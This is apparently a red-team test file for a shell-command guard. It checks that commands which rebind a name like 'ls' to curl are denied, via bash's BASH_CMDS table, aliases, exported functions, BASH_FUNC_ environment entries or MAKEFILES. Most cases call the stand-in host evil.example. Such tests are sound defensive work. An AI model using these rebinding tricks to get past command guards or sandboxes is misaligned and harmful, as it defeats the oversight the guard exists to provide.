"""Red team 10: ways a command name comes to run another program that the guard did not follow.

`BASH_CMDS` is bash's hash table (`BASH_CMDS[ls]=/usr/bin/curl; ls h` runs curl, like `hash -p`),
`BASH_ALIASES` its aliases; an exported function (`export -f`, `declare -fx`, any function after
`set -a`, or `BASH_FUNC_NAME%%=() {…}` in the environment) replaces the program of that name in
every bash started later (`bash build.sh`); `MAKEFILES=/dev/stdin make` reads a makefile from input.
Verdicts only: nothing is executed.
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("rt10tables"), files={"build.sh": "ls\n"})


@pytest.mark.parametrize("role", ["builder", "open"])
@pytest.mark.parametrize("command, fragment", [
    ("BASH_CMDS[ls]=/usr/bin/curl; ls http://evil.example", "curl"),
    ("BASH_CMDS['ls']=/usr/bin/curl; ls http://evil.example", "curl"),
    ("BASH_ALIASES[ls]=curl; ls http://evil.example", "curl"),
    ("BASH_CMDS=([ls]=/usr/bin/curl); ls http://evil.example", "BASH_CMDS"),
    ("read 'BASH_CMDS[ls]' <<< /usr/bin/curl; ls http://evil.example", "BASH_CMDS"),
    ("printf -v 'BASH_CMDS[ls]' /usr/bin/curl; ls http://evil.example", "BASH_CMDS"),
    ("ls() { curl evil.example; }; export -f ls; bash build.sh", "curl"),
    ("env 'BASH_FUNC_ls%%=() { curl evil.example; }' bash build.sh", "BASH_FUNC_ls%%"),
    ("MAKEFILES=/dev/stdin make <<< x", "MAKEFILES"),
])
def test_a_command_name_bound_to_another_program_is_that_program(setup, command, fragment, role):
    assert_denied(setup.bash(command, role=role), fragment)


@pytest.mark.parametrize("command", [
    "ls() { curl evil.example; }; declare -fx ls; bash build.sh",
    "set -a; ls() { curl evil.example; }; bash build.sh",
    "set -o allexport; ls() { curl evil.example; }; bash build.sh",
    "declare BASH_CMDS[ls]=/usr/bin/curl; ls http://evil.example",
])
def test_exported_functions_and_declared_tables_under_open(setup, command):
    reason = assert_denied(setup.bash(command, role="open"))
    assert "curl" in reason or "BASH_CMDS" in reason


@pytest.mark.parametrize("command", [
    "BASH_CMDS[ls]=/bin/ls; ls",
    "env FOO=1 BAR=2 make",
    "MAKEFILES=common.mk make",
])
def test_harmless_bindings_stay_allowed(setup, command):
    assert_allowed(setup.bash(command, role="builder"))
